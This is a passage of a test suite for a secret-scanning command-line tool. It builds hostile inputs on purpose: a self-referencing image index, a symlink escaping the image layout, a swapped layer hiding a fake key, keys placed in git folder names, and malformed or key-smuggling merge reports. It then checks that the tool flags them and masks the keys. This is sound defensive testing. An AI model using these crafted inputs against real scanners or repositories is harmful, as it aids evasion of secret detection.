    writeFileSync(join(dir, 'blobs', 'sha256', selfName), JSON.stringify(self));
    writeFileSync(join(dir, 'index.json'), JSON.stringify({ schemaVersion: 2, manifests: Array.from({ length: 40 }, () => ({ mediaType: 'application/vnd.oci.image.index.v1+json', digest: `sha256:${selfName}`, size: 1 })) }));
    const started = Date.now();
    const r = runCli(['image', dir], { timeout: 30_000, killSignal: 'SIGKILL' });
    expect(Date.now() - started).toBeLessThan(20_000);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/an index that lists itself \(a cycle\): not read again/);
    expect(r.stderr).toMatch(/its bytes do not match the digest it is stored under/);
  });

  it('refuses a blob that is a link out of the layout, and names a layer whose bytes do not match its digest', () => {
    const secret = writeTree(tempDir(), { 'outside.json': JSON.stringify({ config: { Env: [`K=${fakeKey('live')}`] } }) });
    const dir = ociLayout(tempDir(), { layers: [{ 'app/readme.txt': 'hello\n' }] });
    const manifest = JSON.parse(readFileSync(join(dir, 'blobs', 'sha256', JSON.parse(readFileSync(join(dir, 'index.json'), 'utf8')).manifests[0].digest.slice(7)), 'utf8'));
    const configPath = join(dir, 'blobs', 'sha256', manifest.config.digest.slice(7));
    execFileSync('rm', [configPath]);
    symlinkSync(join(secret, 'outside.json'), configPath);
    const linked = runCli(['image', dir]);
    expect(linked.code).toBe(2);
    expect(linked.stderr).toMatch(/is a link that leads out of the image: not read/);

    const other = ociLayout(tempDir(), { layers: [{ 'app/a.txt': 'a\n' }] });
    const m = JSON.parse(readFileSync(join(other, 'blobs', 'sha256', JSON.parse(readFileSync(join(other, 'index.json'), 'utf8')).manifests[0].digest.slice(7)), 'utf8'));
    const layerPath = join(other, 'blobs', 'sha256', m.layers[0].digest.slice(7));
    // Another layer's bytes under this layer's digest: a key the manifest does not name.
    const key = fakeKey('live');
    writeFileSync(layerPath, gzip(tar({ 'app/a.txt': 'a\n', 'app/.env': `K=${key}\n` })));
    expect(sha(readFileSync(layerPath))).not.toBe(m.layers[0].digest.slice(7));
    const swapped = runCli(['image', other, '--format', 'json']);
    expect(swapped.code).toBe(1);
    expect(JSON.parse(swapped.stdout).warnings.join('\n')).toMatch(/its bytes do not match the digest it is stored under \(sha256:[0-9a-f]{12}\): not the layer the manifest names/);
    writeFileSync(layerPath, gzip(tar({ 'app/a.txt': 'b\n' })));
    expect(runCli(['image', other]).code).toBe(2);
  });
});

describe('a key used as a name in history', () => {
  it('git finds a key in a folder name as dir does, and no format prints it: at HEAD, in a deleted path, and in what a range adds', () => {
    const repo = makeRepo();
    const [named, inside, old, pushed] = [fakeKey('live'), fakeKey('live'), fakeKey('live'), fakeKey('live')];
    repo.commit('one', { [`${named}/app.env`]: 'PORT=1\n', [`cfg/${inside}/x.env`]: `K=${inside}\n` });
    repo.commit('two', { [`legacy/${old}.env`]: `K=${old}\n` });
    repo.remove(`legacy/${old}.env`);
    repo.commit('three');
    const all = [named, inside, old, pushed];
    for (const format of ['text', 'json', 'sarif', 'html', 'markdown', 'junit', 'github']) {
      const out = runCli(['git', repo.dir, '--format', format]);
      expect({ format, code: out.code }).toEqual({ format, code: 1 });
      for (const key of all) expect({ format, leaked: out.stdout.includes(key) || out.stderr.includes(key) }).toEqual({ format, leaked: false });
    }
    const json = JSON.parse(runCli(['git', repo.dir, '--format', 'json']).stdout);
    const names = json.findings.filter((f: { inName?: boolean }) => f.inName).map((f: { path: string; git: { atHead: boolean } }) => [f.path, f.git.atHead]);
    expect(names).toEqual(
      expect.arrayContaining([
        [`sk_live_…${named.slice(-4)}`, true],
        [`cfg/sk_live_…${inside.slice(-4)}`, true],
        [`legacy/sk_live_…${old.slice(-4)}.env`, false],
      ]),
    );
    // A range judges the names it adds, as a push hook must.
    repo.commit('four', { [`docs/${pushed}/readme.md`]: 'hello\n' });
    const range = runCli(['git', repo.dir, '--range', 'HEAD~1..HEAD', '--format', 'json']);
    expect(range.code).toBe(1);
    expect(JSON.parse(range.stdout).findings.map((f: { path: string }) => f.path)).toEqual([`docs/sk_live_…${pushed.slice(-4)}`]);
    expect(range.stdout).not.toContain(pushed);
  });
});

describe('sk-scan merge with input somebody else wrote', () => {
  /** A real report of a repository with a key in a folder name and in a file, written with --show-secrets. */
  function fullReport(): { file: string; keys: string[] } {
    const repo = makeRepo();
    const keys = [fakeKey('live'), fakeKey('live')];
    repo.commit('k', { [`${keys[0]}/a.env`]: `K=${keys[1]}\n` });
    const file = join(tempDir(), 'full.json');
    runCli(['git', repo.dir, '--format', 'json', '--show-secrets', '--output', file]);
    expect(readFileSync(file, 'utf8')).toContain(keys[1]);
    return { file, keys };
  }

  it('names the file and the field of input that is not a report, in one line, for wrong types, deep nesting and a FIFO', () => {
    const { file } = fullReport();
    const report = JSON.parse(readFileSync(file, 'utf8'));
    const dir = tempDir();
    const cases: [string, string, RegExp][] = [
      ['line.json', JSON.stringify({ ...report, findings: [{ ...report.findings[0], line: 'x' }] }), /line\.json: findings\[0\]\.line: a whole number, not "x"/],
      ['secret.json', JSON.stringify({ ...report, findings: [{ ...report.findings[0], secret: 7 }] }), /secret\.json: findings\[0\]\.secret: an object, not 7/],
      ['stats.json', JSON.stringify({ ...report, stats: null }), /stats\.json: stats: an object, not null/],
      ['deep.json', `{"version":1,"tool":{"name":"sk-scan"},"x":${'['.repeat(5000)}${']'.repeat(5000)}}`, /deep\.json: nested more than 32 levels deep/],
    ];
    for (const [name, text, message] of cases) {
      writeFileSync(join(dir, name), text);
      const r = runCli(['merge', join(dir, name)]);
      expect({ name, code: r.code, lines: r.stderr.trim().split('\n').length }).toEqual({ name, code: 2, lines: 1 });
      expect(r.stderr).toMatch(message);
      expect(r.stderr).not.toMatch(/internal error/);
    }
    execFileSync('mkfifo', [join(dir, 'fifo.json')]);
    const fifo = runCli(['merge', join(dir, 'fifo.json')], { timeout: 20_000, killSignal: 'SIGKILL' });
    expect(fifo.code).toBe(2);
    expect(fifo.stderr).toMatch(/fifo\.json is not a regular file/);
  });

  it('masks on output as every scan does: a --show-secrets report gives up its keys only with --show-secrets', () => {
    const { file, keys } = fullReport();
    const report = JSON.parse(readFileSync(file, 'utf8'));
    // Keys where no scan would put them: in a warning, an author, a ref, a target.
    report.warnings.push(`copied from ${keys[1]}`);
    report.findings[0].author = `Mallory ${keys[0]} <m@example.test>`;
    report.findings[0].git.refs = [`refs/heads/${keys[1]}`];
    writeFileSync(file, JSON.stringify(report));
    for (const format of ['json', 'text', 'html', 'sarif', 'markdown']) {
      const out = runCli(['merge', file, '--format', format]).stdout;
      for (const key of keys) expect({ format, leaked: out.includes(key) }).toEqual({ format, leaked: false });
    }
    expect(runCli(['merge', file, '--format', 'json', '--show-secrets']).stdout).toContain(keys[1]);
  });
});
